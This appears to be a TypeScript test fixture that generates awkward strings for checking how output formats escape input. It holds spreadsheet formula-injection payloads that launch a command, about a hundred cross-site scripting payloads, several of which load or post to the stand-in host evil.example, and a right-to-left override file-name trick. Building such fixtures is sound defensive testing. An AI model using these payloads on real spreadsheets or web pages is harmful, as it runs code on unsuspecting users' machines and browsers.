/** Texts that formats have broken on: formulas, markup, delimiters, control characters. */

const formulaStarts = ["=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠"];
const blanks = ["", " ", "\uFEFF", "\u00A0", "  ", "\u200B"];

/** 66 payloads that a spreadsheet might run. */
export const formulas: readonly string[] = formulaStarts.flatMap((start) =>
  blanks.map((blank) => `${blank}${start}cmd|' /C calc'!A0`),
);

const scripts = [
  "<script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</td></tr></table><script src=//evil.example></script>",
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "<style>@import '//evil.example'</style>",
  "<link rel=stylesheet href=//evil.example>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<form action=//evil.example><button>x</button></form>",
  "<object data=//evil.example>",
  "<embed src=//evil.example>",
  "<details open ontoggle=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
];
const wrappings = [
  (text: string) => text,
  (text: string) => text.toUpperCase(),
  (text: string) => `&lt;${text}`,
  (text: string) => `" autofocus onfocus=alert(1) x="${text}`,
  (text: string) => `\u0000${text}\r\n`,
];
/** 100 payloads that a careless page would run or load. */
export const markup: readonly string[] = scripts.flatMap((script) => wrappings.map((wrap) => wrap(script)));

export const awkward: readonly string[] = [
  ...formulas,
  ...markup,
  "a|b",
  "a\\|b",
  "\\",
  "line\nbreak",
  "line\r\nbreak",
  ' "quoted", text ',
  "'=1",
  "''=1",
  "'quoted",
  "-5",
  "+1.5e3",
  "`code` *bold* _em_ ~~gone~~ [x](javascript:alert(1)) ![x](http://evil.example/x.png)",
  "<br>&amp;&#124;",
  "\u202Egnp.exe",
  "a\u200Bb\u0007",
  "日本語 🏢 é",
  "",
  " ",
  "__proto__",
];
